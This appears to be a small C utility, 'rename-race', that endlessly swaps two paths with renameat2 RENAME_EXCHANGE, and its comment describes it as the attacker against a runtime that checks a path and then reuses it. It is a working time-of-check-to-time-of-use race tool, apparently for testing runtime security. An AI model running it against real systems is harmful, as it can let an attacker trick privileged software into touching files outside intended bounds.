/* rename-race A B — exchange A and B (renameat2 RENAME_EXCHANGE) in a tight
 * loop until killed: the attacker of a runtime that checks a path and uses
 * it again later. Runs on the host. */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: rename-race A B\n");
		return 2;
	}
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
			fprintf(stderr, "rename-race: %s\n", strerror(errno));
			return 1;
		}
}
